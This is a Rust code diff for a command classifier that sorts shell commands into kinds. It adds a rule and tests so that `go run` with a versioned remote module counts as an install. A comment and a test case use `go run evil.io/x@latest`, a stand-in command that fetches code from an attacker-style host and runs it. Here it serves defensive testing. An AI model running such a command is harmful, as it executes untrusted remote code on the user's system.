@@ -2913,6 +2913,11 @@ impl C {
                 }) {
                     return Kind::Unknown;
                 }
+                // `go run evil.io/x@latest` downloads a module outside the
+                // project and runs it: an install, not a build.
+                if subs.iter().skip(1).any(|x| x.contains('@')) {
+                    return Kind::Install;
+                }
                 self.build_in(".")
             }
             ("go", "version" | "env" | "list" | "doc" | "help") => {
@@ -4528,6 +4533,14 @@ mod tests {
         assert_eq!(kind("npm i -g left-pad"), "install");
         assert_eq!(kind("python3 -m pip install x"), "install");
         assert_eq!(kind("apt-get install -y jq"), "install");
+        // a module at a version is fetched from the network and run
+        assert_eq!(kind("go run evil.io/x@latest"), "install");
+        assert_eq!(
+            kind("go run -mod=mod github.com/a/b/cmd/c@v1.2.3 -x"),
+            "install"
+        );
+        assert_eq!(kind("go run ./cmd/x"), "write");
+        assert_eq!(kind("go test ./..."), "write");
         assert_eq!(kind("git push origin feature"), "network");
         assert_eq!(kind("ssh host uptime"), "network");
         assert_eq!(kind("touch a.txt && mkdir -p out"), "write");
